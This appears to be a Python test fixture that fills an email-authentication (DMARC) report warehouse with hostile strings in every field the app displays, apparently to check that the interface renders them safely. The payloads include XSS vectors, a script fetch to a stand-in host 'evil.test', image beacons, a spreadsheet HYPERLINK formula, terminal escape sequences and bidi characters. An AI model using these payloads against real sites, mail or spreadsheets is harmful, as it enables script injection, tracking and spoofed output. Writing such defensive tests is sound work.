"""What an attacker writes into reports, mail and DNS, in every place that the app shows."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path
from typing import Final

from ingest.inputs.base import Message
from ingest.outcome import Opinion, Quarantined, Reason
from tests.analysis.world import NOW, World, days, usual
from warehouse import quarantine
from warehouse.connect import Connection
from warehouse.decisions import SourceDecision, decide

HOST: Final = "evil.test"
"""Stands in each attack: a request for it, or a link to it, is a success for the attacker."""

ATTACKS: Final = (
    f"![x](http://{HOST}/a.png)",
    f"<img src=http://{HOST}/b.png onerror=alert(1)>",
    f"<script>fetch('http://{HOST}/c')</script>",
    f"[click](javascript:alert('{HOST}'))",
    f":material/delete: :red[{HOST}] $\\href{{http://{HOST}}}{{x}}$",
    f"http://{HOST}/d www.{HOST} a@{HOST}",
    f"\x1b[31m\x1b]8;;http://{HOST}\x07{HOST}\x1b]8;;\x07\x1b[2J",
    f"\u202e{HOST}\u202c\u2066\u200b\ufeff",
    f'=HYPERLINK("http://{HOST}";"x")',
    f"@import url(http://{HOST}/e.css)'\"><svg onload=alert(1)>{HOST}",
    f"# {HOST}\n- a\n| b |\n|---|\n> c `d` **e** ~~f~~ {{{{ g }}}} <!-- h -->",
)
RAW: Final = f"From: a@{HOST}\r\nSubject: {ATTACKS[1]}\r\n\r\n<html><body>{ATTACKS[2]}\x1b[2J\u202e</body></html>"


def warehouse(folder: Path) -> Path:
    """A month of mail about a domain of ours and about domains that are attacks themselves."""
    world = World.at(folder)
    usual(world, days(29))
    for number, attack in enumerate(ATTACKS):
        address = f"198.18.0.{number + 1}"
        world.send(
            address, days(20), 15, header_from=attack, dkim=((attack, attack, "fail"),), spf=(attack, "pass"),
            reason=("other", attack), reporters=[attack, "google.com", "Yahoo"],
        )  # fmt: skip
        world.send(f"198.51.100.{number + 100}", days(9), 40, domain=attack, dkim=((attack, "s", "pass"),))
    drift(world)
    path = world.save().path
    with world.warehouse.writing() as connection:
        for number, attack in enumerate(ATTACKS):
            connection.execute(
                """
                UPDATE address SET as_name = ?, as_domain = ?, service = ?, country = ?, ptr = ?, ptr_confirmed = true
                WHERE source_ip LIKE '198.18.0.' || ?
                """,
                [attack, attack, attack, attack[:40], attack, str(number + 1)],
            )
            message = Message((RAW + attack).encode(), attack, 3000, datetime(2026, 11, 20))  # noqa: DTZ001
            quarantine.keep(
                connection,
                message,
                Quarantined(Reason.XML_BROKEN, attack, 0, Opinion(reads=False, sentence=attack)),
                NOW.replace(tzinfo=None),
            )
        connection.execute("UPDATE load_run SET input = ?", [ATTACKS[0]])
        other_kinds(connection)
        wanted = f"v=DMARC1; p=none; rua=mailto:x@{'a' * 60}.test; x={' '.join(ATTACKS).replace(';', ',')}"
        for name in ("_dmarc.example.com", "_dmarc.com"):
            inserted(
                connection, "dmarc_lookup", {"name": name, "rdtype": "TXT", "name_exists": True, "records": [wanted]}
            )
        known = connection.execute("SELECT DISTINCT domain, source_key FROM daily ORDER BY ALL").fetchall()
        for (domain, key), attack in zip(known, ATTACKS, strict=False):
            made = SourceDecision(domain, key, "approved", attack, attack, attack)
            decide(connection, made, NOW.replace(tzinfo=None))
            given = {"old_key": attack, "new_key": key, "kind": "merged", "cause": "records", "actor": attack,
                     "conflict": attack, "regroup_key": ATTACKS.index(attack)}  # fmt: skip
            inserted(connection, "source_regroup", given)
            inserted(connection, "dns_answer", {"domain": domain, "name": attack, "records": [attack]})
    return path


def drift(world: World) -> None:
    """A service that loses its selector, whose name is an attack."""
    sender = "192.88.99.10"
    world.send(sender, days(29, 12), 80, dkim=(("example.com", ATTACKS[0], "pass"),))
    world.send(sender, days(11), 80, dkim=((ATTACKS[3], ATTACKS[4], "pass"),))


def other_kinds(connection: Connection) -> None:
    """Attacks in the tables of TLS reports, failure reports and bounces."""
    day = NOW.date()
    for number, attack in enumerate(ATTACKS):
        given = {
            "tls_policy": {"policy_type": attack, "total_failure_session_count": number + 1},
            "tls_failure": {"result_type": attack, "receiving_mx_hostname": attack, "failure_reason_code": attack,
                            "failed_session_count": number + 1},
            "failure_report": {"header_from": attack, "source_ip": attack, "reporter": attack, "incidents": 3,
                               "authentication_results": attack, "subject": attack, "feedback_type": "auth-failure",
                               "rcpt_to_domains": [attack], "dkim_selector": attack},
            "delivery_status": {"action": "failed", "code": "5.7.26", "diagnostic": attack, "remote_mta": attack,
                                "recipient_domain": attack, "recipient": attack, "notice_key": number},
        }  # fmt: skip
        for table, values in given.items():
            inserted(connection, table, {"domain": attack if number % 2 else "example.com", "day": day, **values})


def inserted(connection: Connection, table: str, values: dict[str, object]) -> None:
    """A row with these values, and with something plain wherever another one must be."""
    plain = {"VARCHAR": "x", "BIGINT": 1, "INTEGER": 1, "TIMESTAMP": NOW.replace(tzinfo=None)}
    needed = connection.execute(
        "SELECT column_name, data_type FROM duckdb_columns() WHERE table_name = ? AND NOT is_nullable", [table]
    ).fetchall()
    row = {name: plain.get(kind, []) for name, kind in needed} | values
    marks = ", ".join("?" for _ in row)
    connection.execute(f"INSERT INTO {table} ({', '.join(row)}) VALUES ({marks})", list(row.values()))
